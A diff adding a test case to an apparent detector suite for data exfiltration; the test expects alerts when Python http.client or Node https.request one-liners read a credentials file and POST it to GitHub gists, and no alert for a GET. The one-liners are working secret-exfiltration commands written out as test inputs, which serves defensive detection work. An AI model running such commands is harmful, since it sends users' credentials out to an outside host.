@@ -73,6 +73,19 @@ describe('uploads hidden in curl globs and wget commands', () => {
       expect(await alertsOf('rscript-httr', '/usr/lib/R/bin/Rscript', r, form)).toEqual([gist('Rscript')]);
     });
 
+    it(`an inline upload through the standard library's host-and-path form is high; its GET is quiet (${form})`, async () => {
+      // Evasion hunt, round 3: Python's http.client and Node's https.request take the host and the path apart, so
+      // no URL was in the script (no dependency needed, what a minimal image has).
+      const py = `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request('POST','/gists',open('${CREDS}').read())"`;
+      expect(await alertsOf('py-http-client', '/usr/bin/python3', py, form)).toEqual([gist('python')]);
+      const js = `-e "require('https').request({host:"api.github.com",path:'/gists',method:'POST'}).end(require('fs').readFileSync('${CREDS}'))"`;
+      expect(await alertsOf('node-https-request', '/usr/local/bin/node', js, form)).toEqual([gist('node')]);
+      const get = `-c "import http.client as h;c=h.HTTPSConnection('api.github.com');c.request('GET','/repos/acme/app')"`;
+      expect(await alertsOf('py-http-client-get', '/usr/bin/python3', get, form)).toEqual([]);
+      const logs = `-c "import http.client as h;c=h.HTTPSConnection('logs.example.com');c.request('POST','/in',open('${CREDS}').read())"`;
+      expect(await alertsOf('py-http-client-logs', '/usr/bin/python3', logs, form, 'logs.example.com')).toEqual([]);
+    });
+
     it(`a globbed download, a wget setting and an upload elsewhere are quiet (${form})`, async () => {
       const releases = 'https://api.github.com/repos/acme/{app,cli}/releases/latest';
       expect(await alertsOf('curl-glob-get', '/usr/bin/curl', `-fsSL ${releases}`, form)).toEqual([]);
